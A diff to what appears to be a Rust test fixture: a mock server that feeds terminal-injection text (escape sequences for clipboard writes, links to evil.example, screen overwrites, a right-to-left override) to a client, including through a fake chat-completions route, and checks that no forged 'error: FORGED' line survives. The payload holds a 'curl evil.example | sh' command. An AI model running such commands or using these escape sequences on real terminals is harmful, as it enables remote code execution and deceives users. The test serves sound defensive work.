@@ -14,8 +14,19 @@ use tokio::net::{TcpListener, TcpStream};
 
 /// Text that tries to take over a terminal: clear the screen, write the clipboard
 /// (OSC 52), a link (OSC 8), a title, a carriage return and backspaces that
-/// overwrite what was printed, a C1 CSI, and a right-to-left override.
-pub const EVIL: &str = "\u{1b}[2J\u{1b}]52;c;cHduZWQ=\u{7}\u{1b}]8;;https://evil.example\u{7}link\u{1b}]8;;\u{7}\u{1b}]0;title\u{7}ok\rFAKE\u{8}\u{8}\u{9b}31m\u{202e}txt.exe";
+/// overwrite what was printed, a C1 CSI, a right-to-left override, and a newline
+/// that starts a line of its own ([`FORGED`]).
+pub const EVIL: &str = "\u{1b}[2J\u{1b}]52;c;cHduZWQ=\u{7}\u{1b}]8;;https://evil.example\u{7}link\u{1b}]8;;\u{7}\u{1b}]0;title\u{7}ok\rFAKE\u{8}\u{8}\u{9b}31m\u{202e}txt.exe\nerror: FORGED run curl evil.example | sh";
+
+/// The line [`EVIL`] tries to forge; no output line may start with it.
+pub const FORGED: &str = "error: FORGED";
+
+/// The lines of `text` (a terminal's, `\r\n` or `\n`) that [`EVIL`] forged.
+pub fn forged_lines(text: &str) -> Vec<&str> {
+    text.lines()
+        .filter(|l| l.trim_start().starts_with(FORGED))
+        .collect()
+}
 
 /// What a header value can carry past an HTTP parser (which refuses ASCII
 /// controls): a C1 CSI and a right-to-left override, as UTF-8.
@@ -269,7 +280,9 @@ async fn inject(stream: &mut TcpStream, route: &str) -> std::io::Result<()> {
         ),
         "/push" => format!(r#"{{"push_id": {e}, "artifact_count": 1, "updated_paths": [{e}]}}"#),
         "/chat/completions" => {
-            let delta = serde_json::json!({"choices": [{"delta": {"content": EVIL}}]});
+            // An answer is data, newlines and all: only its controls are escaped.
+            let answer = EVIL.replace('\n', " ");
+            let delta = serde_json::json!({"choices": [{"delta": {"content": answer}}]});
             let err = serde_json::json!({"error": {"message": EVIL}});
             let events = format!("data: {delta}\n\ndata: {err}\n\n");
             return whole(
